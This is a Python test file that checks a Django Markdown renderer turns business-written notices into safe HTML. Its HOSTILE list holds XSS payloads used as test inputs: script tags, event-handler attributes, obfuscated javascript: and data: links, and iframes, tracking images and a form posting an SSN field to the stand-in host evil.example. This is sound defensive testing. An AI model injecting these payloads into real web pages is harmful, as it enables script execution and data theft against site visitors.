"""core.markup: a business's Markdown reaches consumers as safe HTML (issue 15 item 7).

Tenant-written text is untrusted input: no script, no event-handler attribute, no
``javascript:`` (or other active) link, no image from another host may come out of it, whatever
the spelling; what a notice needs (headings, lists, emphasis, links, tables) does.
"""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from django.template import Context, Template

from core.markup import markup_render

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    '<a href="javascript:alert(1)">raw link</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](  javascript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](&#x6A;avascript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](javascript&colon;alert(1))",
    "<svg onload=alert(1)>",
    '<iframe src="https://evil.example"></iframe>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    "![tracker](https://evil.example/pixel.png)",
    '<a href="https://example.com" onclick="alert(1)">x</a>',
    "<form action=https://evil.example><input name=ssn></form>",
    '[x](https://example.com" onmouseover="alert(1))',
]


class _Elements(HTMLParser):
    """The real elements and attributes of the HTML (escaped text is text, not markup)."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += [(name, value or "") for name, value in attrs]


def _elements(html: str) -> _Elements:
    parser = _Elements()
    parser.feed(str(html))
    return parser


@pytest.mark.parametrize("source", HOSTILE)
def test_nothing_active_reaches_the_page(source):
    found = _elements(markup_render(f"Our notice. {source} The end."))
    assert found.tags <= {"p", "a", "strong", "em", "code"}
    names = {name for name, _ in found.attributes}
    assert names <= {"href", "title", "rel"}
    hrefs = [value for name, value in found.attributes if name == "href"]
    assert all(href.startswith(("https:", "http:", "mailto:", "tel:")) for href in hrefs), hrefs


def test_what_a_notice_needs_comes_through():
    html = markup_render(
        "# Your rights\n\nYou may ask us to **delete** or *correct* it.\n\n"
        "- Identifiers\n- Commercial information\n\n"
        "1. Ask\n2. We answer\n\n"
        "> Quoted\n\n"
        "| Category | Sold |\n|---|---|\n| Identifiers | No |\n\n"
        "Write to [privacy@example.com](mailto:privacy@example.com), call "
        "[(415) 555-0134](tel:+14155550134) or see [our site](https://example.com/privacy)."
    )
    for fragment in (
        "<h2>Your rights</h2>",  # the page has its own h1: a business's "#" is one level down
        "<strong>delete</strong>",
        "<em>correct</em>",
        "<li>Identifiers</li>",
        "<ol>",
        "<blockquote>",
        "<th>Category</th>",
        "<td>No</td>",
        'href="mailto:privacy@example.com"',
        'href="tel:+14155550134"',
        'href="https://example.com/privacy"',
    ):
        assert fragment in html, fragment
    assert html.count('rel="noopener noreferrer nofollow"') == 3


def test_html_written_in_the_source_shows_as_text_not_markup():
    html = markup_render("Use <b>bold</b> & <i>more</i>")
    assert "&lt;b&gt;bold&lt;/b&gt;" in html
    assert "<b>" not in html


def test_the_template_filter_renders_the_same_safe_html():
    rendered = Template("{% load markup %}{{ text|markup }}").render(
        Context({"text": "**Hi** <script>x</script>"})
    )
    assert rendered == str(markup_render("**Hi** <script>x</script>"))
    assert "<script>" not in rendered


def test_nothing_written_renders_nothing():
    assert markup_render("") == ""
